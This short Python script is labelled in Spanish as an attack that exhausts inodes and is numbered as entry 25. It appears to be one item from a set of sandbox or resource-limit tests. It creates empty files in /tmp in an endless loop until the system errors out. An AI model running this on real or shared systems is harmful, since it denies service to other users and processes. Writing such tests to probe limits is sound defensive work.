# attack: agota los inodos
# entry: 25

import itertools
try:
    for n in itertools.count():
        open(f"/tmp/{n}", "w").close()
except OSError as error:
    print(n, error)
